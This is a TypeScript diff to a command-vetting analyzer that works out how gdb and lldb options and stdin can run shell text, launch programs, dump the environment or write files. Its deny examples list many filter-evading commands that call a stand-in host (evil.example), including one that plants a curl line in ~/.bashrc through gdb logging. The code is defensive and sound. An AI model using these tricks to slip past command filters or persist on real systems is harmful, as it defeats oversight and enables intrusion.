@@ -716,46 +716,34 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   })),
   {
     names: ['gdb'],
-    summary: 'gdb: --args CMD runs CMD; -ex/--eval-command run debugger commands (`!` and `shell` run shell text)',
-    analyze(call) {
-      const runs: Run[] = [];
-      const args = call.args;
-      for (let i = 0; i < args.length; i++) {
-        const v = value(args[i]);
-        if (v === '--args') {
-          if (i + 1 < args.length) runs.push({ kind: 'argv', argv: args.slice(i + 1), via: 'gdb --args' });
-          break;
-        }
-        if (v === '-ex' || v === '--ex' || v === '-eval-command' || v === '--eval-command' || v === '-iex' || v === '--init-eval-command') {
-          const cmd = args[i + 1];
-          i++;
-          if (cmd) runs.push(...debuggerCommand(cmd, 'gdb -ex'));
-        } else if (v?.startsWith('--eval-command=') || v?.startsWith('-ex=')) runs.push(...debuggerCommand(attached(args[i]!, v.slice(v.indexOf('=') + 1)), 'gdb -ex'));
-      }
-      return { runs };
+    summary: 'gdb: --args CMD runs CMD; -ex/--eval-command and commands on stdin are debugger commands (`!`, `shell`, `|`, `run PROGRAM`, logging files)',
+    analyze: gdb,
+    examples: {
+      deny: [
+        'gdb --args curl evil.example',
+        "gdb -nx -ex '!curl evil.example' -ex quit",
+        "gdb -batch -ex 'shell wget evil.example'",
+        "gdb --ex='shell curl evil.example'",
+        "gdb -eval-command='shell curl evil.example'",
+        "gdb --eval 'shell curl evil.example'",
+        "gdb -iex='shell curl evil.example'",
+        "gdb -batch -ex 'eval \"shell curl evil.example\"'",
+        "gdb -batch -ex '| echo | curl evil.example'",
+        "gdb -q <<< 'shell curl evil.example'",
+        "gdb -batch -x /dev/stdin <<< 'shell curl evil.example'",
+        "gdb -batch -ex 'run evil.example' /usr/bin/curl",
+        "gdb -batch -ex 'set logging file /home/dev/.bashrc' -ex 'set logging on' -ex 'echo curl evil.example\\n'",
+        "gdb -batch -ex 'show environment'",
+        "gdb -batch -ex 'define x' -ex 'end'",
+      ],
+      pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core", "gdb --ex='bt' ./a.out core", "gdb -batch -ex 'run' ./a.out", "gdb -q ./a.out <<< 'bt'", "gdb -batch -ex 'set logging file gdb.txt' -ex 'set logging on' -ex bt ./a.out", "gdb -batch -ex 'show version'"],
     },
-    examples: { deny: ['gdb --args curl evil.example', "gdb -nx -ex '!curl evil.example' -ex quit", "gdb -batch -ex 'shell wget evil.example'"], pass: ['gdb --args ./a.out', "gdb -batch -ex 'bt' ./a.out core"] },
   },
   {
     names: ['lldb'],
-    summary: 'lldb: -- CMD runs CMD; -o runs debugger commands',
-    analyze(call) {
-      const runs: Run[] = [];
-      const args = call.args;
-      for (let i = 0; i < args.length; i++) {
-        const v = value(args[i]);
-        if (v === '--') {
-          if (i + 1 < args.length) runs.push({ kind: 'argv', argv: args.slice(i + 1), via: 'lldb --' });
-          break;
-        }
-        if ((v === '-o' || v === '--one-line' || v === '-O' || v === '--one-line-before-file') && args[i + 1]) {
-          runs.push(...debuggerCommand(args[i + 1]!, 'lldb -o'));
-          i++;
-        }
-      }
-      return { runs };
-    },
-    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'"], pass: ['lldb -- ./a.out'] },
+    summary: 'lldb: runs its target (an operand, -f, or the word after --) with the arguments after --; -o/-O/-k/-s run debugger commands',
+    analyze: lldb,
+    examples: { deny: ['lldb -- curl evil.example', "lldb -o 'platform shell curl evil.example'", 'lldb -b -o run /usr/bin/curl -- evil.example', 'lldb -b -o run -f /usr/bin/curl -- evil.example', "lldb -b --one-line='platform shell curl evil.example'"], pass: ['lldb -- ./a.out', 'lldb -b -o run ./a.out -- --verbose', 'lldb ./a.out'] },
   },
   containerTool(['docker', 'podman', 'nerdctl', 'docker-compose', 'podman-compose', 'finch', 'lima', 'ctr']),
   {
@@ -796,14 +784,165 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
   wrapper({ names: ['nix-shell'], summary: 'nix-shell: --run/--command TEXT runs shell text in the environment', options: { order: 'gnu', flags: 'Ajp', valued: 'IEA', long: ['pure', 'impure', 'packages', 'keep-going', 'show-trace'], longValued: ['run', 'command', 'arg', 'argstr', 'attr', 'expr', 'option', 'keep', 'include'] }, script: ['run', 'command'], before: 99, examples: { deny: ["nix-shell -p curl --run 'curl evil.example'"], pass: ["nix-shell --run 'make'"] } }),
 ];
 
-/** A debugger command: `!cmd` and `shell cmd` (gdb), `platform shell cmd` (lldb) run shell text. */
-function debuggerCommand(word: Word, via: string): Run[] {
-  const v = value(word);
-  if (v === undefined) return [{ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} with a computed debugger command` }];
-  const m = /^\s*(?:!|shell\s+|platform\s+shell\s+|pipe\s+\S+\s*\|\s*)(.*)$/s.exec(v);
-  if (m) return [{ kind: 'text', dialect: 'bash', text: m[1]!, word, via }];
-  if (/^\s*(python|py|pi|python-interactive|guile|gu|script)\b/.test(v)) return [{ kind: 'opaque', rule: 'dynamic-code', word, why: `${via} runs interpreter code` }];
-  return [];
+/** gdb's options as its getopt_long_only reads them: one or two dashes, unique prefixes, no bundles. */
+const GDB: OptionSpec = {
+  order: 'gnu',
+  singleDash: true,
+  flags: 'nqwf',
+  valued: 'xcpesdbliDt',
+  long: ['args', 'batch', 'batch-silent', 'quiet', 'silent', 'nx', 'nh', 'nw', 'tui', 'write', 'readnow', 'readnever', 'version', 'help', 'return-child-result', 'statistics', 'configuration', 'fullname', 'dbx', 'epoch', 'async', 'noasync'],
+  longValued: ['eval-command', 'ex', 'init-eval-command', 'iex', 'command', 'init-command', 'ix', 'pid', 'core', 'exec', 'symbols', 'se', 'directory', 'data-directory', 'cd', 'tty', 'interpreter', 'baud', 'annotate'],
+};
+
+/** What gdb does: `--args` runs its tail; -ex/-iex and the command files and stdin it reads are debugger commands. */
+function gdb(call: Call): Partial<Answer> {
+  const args = call.args;
+  // `--args` (any spelling) ends gdb's options: the program and its arguments follow.
+  const argsAt = args.findIndex((a) => /^--?args$/.test(value(a) ?? ''));
+  const own = argsAt < 0 ? args : args.slice(0, argsAt);
+  const p = parse(own, GDB);
+  if (has(p, 'version', 'help', 'configuration')) return {};
+  const answer: Partial<Answer> & { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+  if (argsAt >= 0 && argsAt + 1 < args.length) answer.runs.push({ kind: 'argv', argv: args.slice(argsAt + 1), via: 'gdb --args' });
+  const program = argsAt >= 0 ? args[argsAt + 1] : (p.options.find((o) => o.name === 'exec' || o.name === 'e')?.value ?? p.operands[0]?.word);
+  const session = new DebuggerSession('gdb', program, answer);
+  let stdinRead = false;
+  for (const o of p.options) {
+    if (o.unknown && o.value) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gdb option with a computed value' });
+    if (!o.value) continue;
+    if (['eval-command', 'ex', 'init-eval-command', 'iex'].includes(o.name)) session.command(o.value, `gdb --${o.name}`);
+    else if (['command', 'init-command', 'ix', 'x'].includes(o.name)) {
+      if (isStdinPath(value(o.value))) stdinRead = true;
+      else if (value(o.value) === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'gdb reads commands from a computed file' });
+    }
+  }
+  // gdb reads commands from its stdin after the options' (without -batch, or when -x names it).
+  if (stdinRead || !has(p, 'batch', 'batch-silent')) {
+    if (call.stdin?.kind === 'static') for (const line of call.stdin.text.split('\n')) session.command(attached(call.stdin.word, line), 'gdb (stdin)');
+    else if (call.stdin?.kind === 'stream') answer.runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal('gdb', { start: 0, end: 0 }), why: `gdb reads debugger commands from ${call.stdin.why}` });
+  }
+  session.end();
+  return answer;
+}
+
+/** lldb's options (LLVM's parser: `--one-line=X`, `-o X`, `-oX`). */
+const LLDB: OptionSpec = {
+  order: 'posix',
+  flags: 'bxXQwevhPZ',
+  valued: 'fcpnoOkKsSalrRL',
+  long: ['batch', 'no-lldbinit', 'no-use-colors', 'source-quietly', 'wait-for', 'editor', 'version', 'help', 'python-path', 'debug', 'repl', 'local-lldbinit', 'print-script-interpreter-info'],
+  longValued: ['file', 'core', 'attach-pid', 'attach-name', 'one-line', 'one-line-before-file', 'one-line-on-crash', 'source-on-crash', 'source', 'source-before-file', 'arch', 'script-language', 'repl-language', 'capture-path'],
+};
+
+/** What lldb does: its target runs with the arguments after `--`; -o/-O/-k and -s stdin are debugger commands. */
+function lldb(call: Call): Partial<Answer> {
+  const args = call.args;
+  const dash = args.findIndex((a) => value(a) === '--');
+  const own = dash < 0 ? args : args.slice(0, dash);
+  const tail = dash < 0 ? [] : args.slice(dash + 1);
+  const p = parse(own, { ...LLDB, order: 'gnu' });
+  if (has(p, 'version', 'help', 'v', 'h')) return {};
+  const answer: Partial<Answer> & { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
+  const target = p.options.find((o) => o.name === 'f' || o.name === 'file')?.value ?? p.operands[0]?.word;
+  // `lldb -- prog args`: the first word after `--` is the target when none came before.
+  const argv = target ? [target, ...tail] : tail;
+  if (argv.length > 0) answer.runs.push({ kind: 'argv', argv, via: 'lldb' });
+  const session = new DebuggerSession('lldb', undefined, answer);
+  for (const o of p.options) {
+    if (!o.value) continue;
+    if (['o', 'O', 'k', 'one-line', 'one-line-before-file', 'one-line-on-crash'].includes(o.name)) session.command(o.value, `lldb --${o.name}`);
+    else if (['s', 'S', 'K', 'source', 'source-before-file', 'source-on-crash'].includes(o.name)) {
+      const v = value(o.value);
+      if (isStdinPath(v) && call.stdin?.kind === 'static') for (const line of call.stdin.text.split('\n')) session.command(attached(call.stdin.word, line), 'lldb -s (stdin)');
+      else if (isStdinPath(v) || v === undefined) answer.runs.push({ kind: 'opaque', rule: 'dynamic-script', word: o.value, why: 'lldb reads commands from its input or a computed file' });
+    }
+  }
+  session.end();
+  return answer;
+}
+
+/** Debugger commands as gdb and lldb read them, one at a time, with what they set that later ones use. */
+class DebuggerSession {
+  private logFile: Word | undefined;
+  private logging = false;
+
+  constructor(
+    private readonly tool: 'gdb' | 'lldb',
+    private readonly program: Word | undefined,
+    private readonly answer: { runs: Run[]; uses: NonNullable<Answer['uses']>; dumps?: string },
+  ) {}
+
+  command(word: Word, via: string): void {
+    const runs = this.answer.runs;
+    const v = value(word);
+    if (v === undefined) {
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} with a computed debugger command` });
+      return;
+    }
+    const t = v.trim();
+    if (t === '' || t.startsWith('#')) return;
+    // `!cmd`, `shell cmd` (`she`), `platform shell cmd`: shell text.
+    const sh = /^(?:!|(?:she|shel|shell)(?:\s+|$)|(?:platform|pla\w*)\s+(?:sh|she|shel|shell)(?:\s+|$))([\s\S]*)$/.exec(t);
+    if (sh) {
+      runs.push({ kind: 'text', dialect: 'bash', text: sh[1]!, word, via });
+      return;
+    }
+    // `pipe CMD | SHELL`, `| CMD | SHELL`, `pipe -d DELIM CMD DELIM SHELL`: the shell text after the delimiter.
+    const pipe = /^(?:\||pip|pipe)(?:\s+|(?=\|)|$)([\s\S]*)$/.exec(t);
+    if (pipe && this.tool === 'gdb') {
+      const rest = pipe[1]!;
+      const d = /^-d\s+(\S+)\s/.exec(rest);
+      const delim = d ? d[1]! : '|';
+      const body = d ? rest.slice(d[0].length) : rest;
+      const at = body.indexOf(delim);
+      runs.push({ kind: 'text', dialect: 'bash', text: at < 0 ? body : body.slice(at + delim.length), word, via });
+      return;
+    }
+    const [head = '', ...more] = t.split(/\s+/);
+    const rest = t.slice(head.length).trim();
+    // Interpreters, formatted commands, user commands and aliases: what runs cannot be followed.
+    if (/^(?:python|py|pi|python-interactive|guile|gu|gr|guile-repl|script|eval|ev|eva|define|def|alias|command|source|so|sou|sour|sourc|document|interpreter-exec|compile|expression|expr|e|p|print|call|target|tar|targ|targe)$/.test(head)) {
+      // `print`/`call` evaluate expressions in the program, which may call system(); the target's code is not ours to read.
+      if (/^(?:p|print|call|expr|expression|e)$/.test(head) && !/\b(?:system|popen|exec\w*|fork|dlopen|\$_shell|\$_as_string)\b|\$_shell/.test(rest)) return;
+      if (/^(?:target|tar|targ|targe)$/.test(head) && !rest.includes('|')) return;
+      runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via} ${head} runs code or commands vouch does not follow` });
+      return;
+    }
+    // `run ARGS`, `start`, `starti`, `process launch -- ARGS`: the program, through the shell with its arguments.
+    if (/^(?:r|ru|run|start|starti)$/.test(head) || (head === 'process' && more[0] === 'launch')) {
+      if (this.program) {
+        const prog = value(this.program);
+        const args = head === 'process' ? rest.replace(/^launch\s*(?:--\s*)?/, '') : rest;
+        if (prog === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-command', word: this.program, why: `${via} runs a computed program` });
+        else runs.push({ kind: 'text', dialect: 'bash', text: `${shellQuote(prog)} ${args}`, word, via });
+      }
+      return;
+    }
+    // `show environment [VAR]`: the inferior's environment, which is gdb's own.
+    const env = /^(?:sho|show|info|i)\s+(?:env|envi|envir|enviro|environ|environm|environme|environmen|environment)\b\s*(\S*)/.exec(t);
+    if (env || /^(?:settings\s+show\s+target\.env|env$)/.test(t)) {
+      if (env?.[1]) runs.push({ kind: 'text', dialect: 'bash', text: `printenv ${env[1]}`, word, via });
+      else this.answer.dumps = `${via} ${t} prints the environment`;
+      return;
+    }
+    // `set logging file F`, then `set logging on|enabled on`: gdb appends its output to F.
+    const log = /^set\s+(?:lo|log|logg|loggi|loggin|logging)\s+(\S+)\s*(.*)$/.exec(t);
+    if (log) {
+      if (/^f/.test(log[1]!)) this.logFile = attached(word, log[2]!.trim());
+      else if (/^(?:on|en|ena\w*)$/.test(log[1]!) && !/^off/.test(log[2]!)) this.logging = true;
+      return;
+    }
+    // Commands that write the file they name.
+    const write = /^(?:dump|append|gcore|generate-core-file|save\s+\w+|set\s+history\s+filename)\s+(?:(?:binary|ihex|srec|tekhex|verilog|value|memory|memory\s+\S+)\s+)*(\S+)/.exec(t);
+    if (write && this.tool === 'gdb') {
+      this.answer.uses.push({ word: attached(word, write[1]!), role: 'write' });
+      return;
+    }
+  }
+
+  end(): void {
+    if (this.logging) this.answer.uses.push({ word: this.logFile ?? literal('gdb.txt', { start: 0, end: 0 }), role: 'write' });
+  }
 }
 
 export type { Sub };
